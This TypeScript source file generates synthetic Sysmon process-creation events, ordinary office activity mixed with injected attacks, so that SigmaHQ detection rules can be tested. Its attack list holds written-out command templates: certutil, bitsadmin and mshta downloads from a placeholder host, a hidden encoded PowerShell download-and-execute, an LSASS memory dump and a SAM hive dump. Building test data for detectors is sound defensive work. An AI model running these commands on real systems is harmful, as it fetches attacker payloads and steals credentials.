/**
 * `sysmon`: Windows Sysmon process-creation events (event ID 1) in the evtx-json shape — the JSON
 * `evtx_dump` writes and Chainsaw, Hayabusa and Vigil's `evtx-json` Sigma pipeline read:
 * `Event.System.{EventID, Channel, Computer, TimeCreated.SystemTime, …}` and
 * `Event.EventData.{Image, CommandLine, ParentImage, User, …}`, plus `timestamp` (epoch ms) for
 * windows and the simulator's clock.
 *
 * Regular traffic is an office's day (browsers, Office, svchost, git, ordinary PowerShell and cmd)
 * that no rule of the SigmaHQ corpus we ship should flag. An attack is one process creation whose
 * command line a SigmaHQ process_creation rule detects ({@link SYSMON_ATTACKS}: the rule titles
 * each is known to raise, checked in test/web/sysmon-generator.test.ts by loading those rules). Its
 * truth key is its command line, made unique per attack by a random token (a file, a URL path, a
 * job name), so an alert's `Event.EventData.CommandLine` names the attack it found.
 */
import { BurstGenerator, type TimedEvent } from '../../../src/simulate/burst-generator.js';
import { baseOptions, type GeneratorOptions, type SimulatedEvent } from '../../../src/simulate/generator.js';
import type { Random } from '../../../src/simulate/random.js';

export const SYSMON_CHANNEL = 'Microsoft-Windows-Sysmon/Operational';
export const SYSMON_PROVIDER = 'Microsoft-Windows-Sysmon';
/** Where an alert (the fields a Sigma rule read, as the event holds them) carries the command line. */
export const COMMAND_LINE_PATH = 'Event.EventData.CommandLine';

const COMPUTERS = Array.from({ length: 24 }, (_, i) => `WS-${String(i + 1).padStart(2, '0')}.corp.example.com`);
const USERS = ['alice', 'bob', 'carol', 'dave', 'erin', 'frank', 'grace', 'heidi'].map((u) => `CORP\\${u}`);
const SYSTEM32 = 'C:\\Windows\\System32';

interface ProcessSpec {
  image: string;
  originalFileName: string;
  commandLine: (r: Random, user: string) => string;
  parentImage: string;
  parentCommandLine: string;
  integrity?: string;
  user?: string;
}

const home = (user: string) => `C:\\Users\\${user.split('\\')[1]}`;

/** An office's ordinary process creations. */
const BENIGN: readonly ProcessSpec[] = [
  {
    image: 'C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe',
    originalFileName: 'chrome.exe',
    commandLine: (r) => `"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe" --type=renderer --renderer-client-id=${r.between(5, 400)} --lang=en-US`,
    parentImage: 'C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe',
    parentCommandLine: '"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe"',
  },
  {
    image: 'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE',
    originalFileName: 'WinWord.exe',
    commandLine: (r, u) => `"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE" /n "${home(u)}\\Documents\\report-${r.between(1, 99)}.docx"`,
    parentImage: 'C:\\Windows\\explorer.exe',
    parentCommandLine: 'C:\\Windows\\Explorer.EXE',
  },
  {
    image: 'C:\\Windows\\System32\\notepad.exe',
    originalFileName: 'NOTEPAD.EXE',
    commandLine: (r, u) => `"C:\\Windows\\System32\\notepad.exe" ${home(u)}\\Desktop\\notes-${r.between(1, 30)}.txt`,
    parentImage: 'C:\\Windows\\explorer.exe',
    parentCommandLine: 'C:\\Windows\\Explorer.EXE',
  },
  {
    image: `${SYSTEM32}\\svchost.exe`,
    originalFileName: 'svchost.exe',
    commandLine: (r) => `C:\\Windows\\system32\\svchost.exe -k ${r.pick(['netsvcs', 'LocalService', 'NetworkService', 'DcomLaunch'])} -p`,
    parentImage: `${SYSTEM32}\\services.exe`,
    parentCommandLine: 'C:\\Windows\\system32\\services.exe',
    integrity: 'System',
    user: 'NT AUTHORITY\\SYSTEM',
  },
  {
    image: 'C:\\Program Files\\Git\\cmd\\git.exe',
    originalFileName: 'git.exe',
    commandLine: (r) => `"C:\\Program Files\\Git\\cmd\\git.exe" ${r.pick(['status', 'fetch origin', 'log --oneline -5', 'pull --ff-only', 'diff'])}`,
    parentImage: 'C:\\Users\\Public\\AppData\\Local\\Programs\\Microsoft VS Code\\Code.exe',
    parentCommandLine: '"C:\\Users\\Public\\AppData\\Local\\Programs\\Microsoft VS Code\\Code.exe"',
  },
  {
    image: `${SYSTEM32}\\WindowsPowerShell\\v1.0\\powershell.exe`,
    originalFileName: 'PowerShell.EXE',
    commandLine: (r) => `powershell.exe ${r.pick(['Get-ChildItem', 'Get-Process', 'Get-Date', 'Get-Service'])}`,
    parentImage: 'C:\\Windows\\explorer.exe',
    parentCommandLine: 'C:\\Windows\\Explorer.EXE',
  },
  {
    image: `${SYSTEM32}\\cmd.exe`,
    originalFileName: 'Cmd.Exe',
    commandLine: (r, u) => `cmd.exe /c dir ${home(u)}\\Documents\\project-${r.between(1, 12)}`,
    parentImage: 'C:\\Windows\\explorer.exe',
    parentCommandLine: 'C:\\Windows\\Explorer.EXE',
  },
  {
    image: 'C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe',
    originalFileName: 'msedge.exe',
    commandLine: (r) => `"C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe" --type=utility --utility-sub-type=network.mojom.NetworkService --field-trial-handle=${r.between(1000, 9999)}`,
    parentImage: 'C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe',
    parentCommandLine: '"C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe"',
  },
];

export interface SysmonAttack {
  name: string;
  /** SigmaHQ rule titles this attack raises (test/web/sysmon-generator.test.ts checks them). */
  titles: readonly string[];
  spec: ProcessSpec;
}

const token = (r: Random) => r.int(0x100000000).toString(16).padStart(8, '0');
const attackerUrl = (r: Random) => `http://198.51.100.${r.between(1, 254)}`;

/** Known-malicious command lines, each caught by a SigmaHQ process_creation rule. */
export const SYSMON_ATTACKS: readonly SysmonAttack[] = [
  {
    name: 'certutil download',
    titles: ['Suspicious Download Via Certutil.EXE'],
    spec: {
      image: `${SYSTEM32}\\certutil.exe`,
      originalFileName: 'CertUtil.exe',
      commandLine: (r) => {
        const t = token(r);
        return `certutil.exe -urlcache -split -f ${attackerUrl(r)}/${t}.exe C:\\Users\\Public\\${t}.exe`;
      },
      parentImage: `${SYSTEM32}\\cmd.exe`,
      parentCommandLine: 'cmd.exe',
    },
  },
  {
    name: 'remote HTA',
    titles: ['Remotely Hosted HTA File Executed Via Mshta.EXE'],
    spec: {
      image: `${SYSTEM32}\\mshta.exe`,
      originalFileName: 'MSHTA.EXE',
      commandLine: (r) => `mshta.exe ${attackerUrl(r)}/${token(r)}.hta`,
      parentImage: 'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE',
      parentCommandLine: '"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE"',
    },
  },
  {
    name: 'encoded PowerShell',
    titles: ['Suspicious Encoded PowerShell Command Line'],
    spec: {
      image: `${SYSTEM32}\\WindowsPowerShell\\v1.0\\powershell.exe`,
      originalFileName: 'PowerShell.EXE',
      // -enc of UTF-16LE text starting with `$`: base64 begins with JAB.
      commandLine: (r) => `powershell.exe -NoP -W Hidden -enc JAB${utf16Base64Tail(`c='${token(r)}';IEX (New-Object Net.WebClient).DownloadString('${attackerUrl(r)}/a')`)}`,
      parentImage: `${SYSTEM32}\\cmd.exe`,
      parentCommandLine: 'cmd.exe',
    },
  },
  {
    name: 'bitsadmin download',
    titles: ['File Download Via Bitsadmin'],
    spec: {
      image: `${SYSTEM32}\\bitsadmin.exe`,
      originalFileName: 'bitsadmin.exe',
      commandLine: (r) => {
        const t = token(r);
        return `bitsadmin.exe /transfer job${t} /download /priority high ${attackerUrl(r)}/${t}.dll C:\\Users\\Public\\${t}.dll`;
      },
      parentImage: `${SYSTEM32}\\cmd.exe`,
      parentCommandLine: 'cmd.exe',
    },
  },
  {
    name: 'LSASS dump via comsvcs',
    titles: ['Process Memory Dump Via Comsvcs.DLL'],
    spec: {
      image: `${SYSTEM32}\\rundll32.exe`,
      originalFileName: 'RUNDLL32.EXE',
      commandLine: (r) => `rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump ${r.between(500, 900)} C:\\Windows\\Temp\\${token(r)}.dmp full`,
      parentImage: `${SYSTEM32}\\cmd.exe`,
      parentCommandLine: 'cmd.exe',
      integrity: 'High',
    },
  },
  {
    name: 'SAM hive dump',
    titles: ['Dumping of Sensitive Hives Via Reg.EXE'],
    spec: {
      image: `${SYSTEM32}\\reg.exe`,
      originalFileName: 'reg.exe',
      commandLine: (r) => `reg.exe save HKLM\\SAM C:\\Users\\Public\\${token(r)}.hiv`,
      parentImage: `${SYSTEM32}\\cmd.exe`,
      parentCommandLine: 'cmd.exe',
      integrity: 'High',
    },
  },
];

/** base64 of `$` + text in UTF-16LE, without the leading `JAB` (the base64 of `$` and its first byte pair's start). */
function utf16Base64Tail(text: string): string {
  const s = '$' + text;
  let binary = '';
  for (let i = 0; i < s.length; i++) {
    const c = s.charCodeAt(i);
    binary += String.fromCharCode(c & 0xff, c >> 8);
  }
  return btoa(binary).slice(3);
}

/**
 * Regular process creations at `rate`; attacks as bursts of one event each (the fraction
 * `errorProbability` of all events, default 0.001 here) and on `inject`. Every attack's event is
 * an anomaly whose truthKey is its command line.
 */
export class SysmonGenerator extends BurstGenerator {
  readonly name = 'sysmon';
  private recordId = 0;

  constructor(options: GeneratorOptions = {}) {
    const { seed, rate, startTime } = baseOptions(options);
    super(seed, rate, startTime, options.errorProbability ?? 0.001, 1);
  }

  protected regular(time: number): SimulatedEvent {
    const spec = this.random.pick(BENIGN);
    return { event: this.processCreation(time, spec), anomaly: false };
  }

  protected burst(start: number, incident: number): TimedEvent[] {
    const attack = this.random.pick(SYSMON_ATTACKS);
    const event = this.processCreation(start, attack.spec);
    const truthKey = commandLineOf(event)!;
    return [{ time: start, item: { event, anomaly: true, truthKey, incident } }];
  }

  private processCreation(time: number, spec: ProcessSpec): Record<string, unknown> {
    const r = this.random;
    const user = spec.user ?? r.pick(USERS);
    const computer = r.pick(COMPUTERS);
    const iso = new Date(time).toISOString();
    const guid = () => `{${token(r)}-${r.int(0x10000).toString(16).padStart(4, '0')}-6a0b-0000-00100000a${r.int(0x1000).toString(16).padStart(3, '0')}}`;
    return {
      Event: {
        System: {
          Provider: { Name: SYSMON_PROVIDER },
          EventID: 1,
          Channel: SYSMON_CHANNEL,
          Computer: computer,
          EventRecordID: ++this.recordId,
          TimeCreated: { SystemTime: iso },
        },
        EventData: {
          RuleName: '-',
          UtcTime: iso.replace('T', ' ').replace('Z', ''),
          ProcessGuid: guid(),
          ProcessId: r.between(1000, 20000),
          Image: spec.image,
          OriginalFileName: spec.originalFileName,
          CommandLine: spec.commandLine(r, user),
          CurrentDirectory: 'C:\\Windows\\system32\\',
          User: user,
          LogonId: `0x${r.int(0x1000000).toString(16)}`,
          IntegrityLevel: spec.integrity ?? 'Medium',
          Hashes: `SHA256=${Array.from({ length: 8 }, () => token(r)).join('').toUpperCase()}`,
          ParentProcessGuid: guid(),
          ParentProcessId: r.between(500, 9000),
          ParentImage: spec.parentImage,
          ParentCommandLine: spec.parentCommandLine,
          ParentUser: user,
        },
      },
      timestamp: time,
    };
  }
}

export function createSysmonGenerator(options?: GeneratorOptions): SysmonGenerator {
  return new SysmonGenerator(options);
}

/** The command line of a Sysmon event, or of an alert that carries it (flat path or nested). */
export function commandLineOf(record: Record<string, unknown>): string | undefined {
  const flat = record[COMMAND_LINE_PATH];
  if (typeof flat === 'string') return flat;
  const data = (record.Event as { EventData?: { CommandLine?: unknown } } | undefined)?.EventData;
  return typeof data?.CommandLine === 'string' ? data.CommandLine : undefined;
}
